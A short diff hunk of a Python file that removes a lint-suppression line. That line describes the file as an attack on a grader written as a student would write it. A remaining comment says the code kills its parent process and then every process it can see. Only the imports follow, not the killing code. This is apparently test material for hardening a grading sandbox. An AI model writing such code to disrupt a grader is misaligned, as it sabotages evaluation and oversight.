@@ -1,4 +1,3 @@
-# ruff: noqa  (an attack on the grader, written as a student would: not project code)
 # Kills its parent, then every process it can see.
 import os
 import signal
